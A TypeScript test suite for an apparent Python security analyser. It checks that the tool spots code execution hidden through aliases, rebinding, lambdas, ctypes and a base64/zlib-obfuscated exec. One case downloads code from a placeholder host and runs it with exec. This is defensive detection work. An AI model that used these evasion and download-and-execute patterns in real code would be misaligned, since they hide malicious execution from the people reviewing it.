import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { evaluate, lines } from '../../../support/evaluated.ts';

/** Name, the source of `own.py` or all files, and the facts in the order they are found. */
const CASES: [string, string | Record<string, string>, string[]][] = [
  [
    'alias',
    `import os as o
o.system('print(1)')`,
    [`own.py:2 import call os.system('print(1)')`],
  ],
  [
    'from alias',
    `from os import system as s
s('print(1)')`,
    [`own.py:2 import call os.system('print(1)')`],
  ],
  [
    'star',
    `from os import *
system('print(1)')`,
    [`own.py:2 import call os.system('print(1)') star-import`],
  ],
  [
    'star sub',
    `from subprocess import *
run(['true'])`,
    [`own.py:2 import call subprocess.run(['true']) star-import`],
  ],
  [
    'rebound exec',
    `e = exec
e('import os; os.system("print(1)")')`,
    [
      'own.py:2 import hidden-name builtins.exec rebound',
      `own.py:2 import call os.system('print(1)')`,
      `own.py:2 import call builtins.exec('import os; os.system("print(1)")') rebound`,
    ],
  ],
  [
    'rebound chain',
    `a = __builtins__
b = a.exec
c = b
c("x = 1\\nimport os\\nos.system('print(1)')\\n# padding padding padding")`,
    [
      'own.py:4 import hidden-name builtins.exec rebound',
      `own.py:3@L1 import call os.system('print(1)')`,
      `own.py:4 import call builtins.exec("x = 1\\nimport os\\nos.system('print(1)')\\n# padding padding padding") rebound`,
    ],
  ],
  [
    'tuple rebind',
    `a, b = exec, eval
a('print(1)')`,
    [
      'own.py:2 import hidden-name builtins.exec rebound',
      `own.py:2 import call builtins.exec('print(1)') rebound`,
    ],
  ],
  ['lambda chain', `(lambda f: f('print(1)'))(exec)`, [`own.py:1 import call builtins.exec('print(1)')`]],
  [
    'lambda chain2',
    `_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))
exec((_)(b'==QK'))`,
    [
      `own.py:1 import call builtins.__import__('zlib')`,
      `own.py:1 import call builtins.__import__('base64')`,
      'own.py:1 import hidden-name base64.b64decode dynamic-import',
      `own.py:1 import call base64.b64decode(b'KQ==') dynamic-import`,
      'own.py:1 import hidden-name zlib.decompress dynamic-import',
      `own.py:1 import call zlib.decompress(b')') dynamic-import`,
      'own.py:2 import call builtins.exec(zlib.decompress(…))',
    ],
  ],
  [
    'lambda returning',
    `get = lambda n: __import__(n)
get('os').system('print(1)')`,
    [
      `own.py:1 import call builtins.__import__('os')`,
      'own.py:2 import hidden-name os.system dynamic-import',
      `own.py:2 import call os.system('print(1)') dynamic-import`,
    ],
  ],
  [
    'y comb',
    `(lambda g: (lambda x: x('print(1)'))(g))(eval)`,
    [`own.py:1 import call builtins.eval('print(1)')`],
  ],
  [
    'methodcaller',
    `import operator, os
operator.methodcaller('system', 'print(1)')(os)`,
    [`own.py:2 import call os.system('print(1)')`],
  ],
  [
    'partial',
    `import functools, os
functools.partial(os.system, 'print(1)')()`,
    [`own.py:2 import call os.system('print(1)')`],
  ],
  ['map exec', `list(map(exec, ['print(1)']))`, [`own.py:1 import call builtins.exec('print(1)')`]],
  [
    'for exec',
    `for f in (exec,):
    f('print(1)')`,
    [
      'own.py:2 import hidden-name builtins.exec rebound',
      `own.py:2 import call builtins.exec('print(1)') rebound`,
    ],
  ],
  [
    'list dispatch',
    `t = [print, exec]
t[1]('print(1)')`,
    [`own.py:2 import call builtins.exec('print(1)')`],
  ],
  ['walrus', `(x := exec)('print(1)')`, [`own.py:1 import call builtins.exec('print(1)')`]],
  [
    'compile exec',
    `exec(compile('import os\\nos.system("print(1)")', '<s>', 'exec'))`,
    [
      `own.py:1 import call builtins.compile('import os\\nos.system("print(1)")', '<s>', 'exec')`,
      `own.py:2@L1 import call os.system('print(1)')`,
      'own.py:1 import call builtins.exec(…)',
    ],
  ],
  [
    'random os',
    `import random
random._os.system('print(1)')`,
    [`own.py:2 import call os.system('print(1)')`],
  ],
  [
    'with star',
    `import os
os.path.os.system('print(1)')`,
    [`own.py:2 import call os.system('print(1)')`],
  ],
  [
    'builtin module import',
    `import builtins as b
b.exec('print(1)')`,
    [`own.py:2 import call builtins.exec('print(1)')`],
  ],
  [
    'from builtins',
    `from builtins import exec as e
e('print(1)')`,
    [`own.py:2 import call builtins.exec('print(1)')`],
  ],
  [
    'ctypes cdll',
    `import ctypes
ctypes.CDLL('libc.so.6').system(b'print(1)')`,
    [`own.py:2 import call ctypes.CDLL('libc.so.6')`, `own.py:2 import call ctypes.CDLL.system(b'print(1)')`],
  ],
  [
    'type call',
    `type('X', (), {'__init__': lambda self: exec('print(1)')})()`,
    [`own.py:1 import call builtins.exec('print(1)')`],
  ],
  [
    'exec with globals dict',
    `d = {}
exec('def f(x):\\n    import os\\n    os.system(x)\\n# ------------------', d)
d['f']('print(1)')`,
    [
      `own.py:2 import call builtins.exec('def f(x):\\n    import os\\n    os.system(x)\\n# ------------------', {'f': f})`,
      `own.py:3@L1 import call os.system('print(1)')`,
    ],
  ],
  [
    'exec defines',
    `exec('def f(x):\\n    import os\\n    os.system(x)\\n# ------------------')
f('print(1)')`,
    [
      `own.py:1 import call builtins.exec('def f(x):\\n    import os\\n    os.system(x)\\n# ------------------')`,
      `own.py:3@L1 import call os.system('print(1)')`,
    ],
  ],
  [
    'from import star own builtins list',
    `from builtins import *
exec('print(1)')`,
    [`own.py:2 import call builtins.exec('print(1)')`],
  ],
  [
    'nonlocal',
    `def a():
    f = None
    def b():
        nonlocal f
        f = exec
    b()
    f('print(1)')
a()`,
    [
      'own.py:7 import hidden-name builtins.exec rebound',
      `own.py:7 import call builtins.exec('print(1)') rebound`,
    ],
  ],
  [
    'global',
    `def a():
    global f
    f = exec
a()
f('print(1)')`,
    [
      'own.py:5 import hidden-name builtins.exec rebound',
      `own.py:5 import call builtins.exec('print(1)') rebound`,
    ],
  ],
  [
    'default arg',
    `def a(code, f=exec):
    f(code)
a('print(1)')`,
    [`own.py:2 import call builtins.exec('print(1)')`],
  ],
  [
    'class attr',
    `class A:
    f = exec
A.f('print(1)')`,
    [
      'own.py:3 import hidden-name builtins.exec rebound',
      `own.py:3 import call builtins.exec('print(1)') rebound`,
    ],
  ],
  [
    'conditional alias',
    `try:
    from urllib2 import urlopen
except ImportError:
    from urllib.request import urlopen
exec(urlopen('http://a.invalid').read())`,
    [
      `own.py:5 import call urllib.request.urlopen('http://a.invalid')`,
      'own.py:5 import call urllib.request.urlopen.read()',
      'own.py:5 import call builtins.exec(urllib.request.urlopen.read(…))',
    ],
  ],
];

describe('names that are imported, rebound and handed on', () => {
  for (const [name, files, expected] of CASES) {
    it(name, () => assert.deepEqual(lines(evaluate(files), 'call', 'hidden-name'), expected));
  }
});
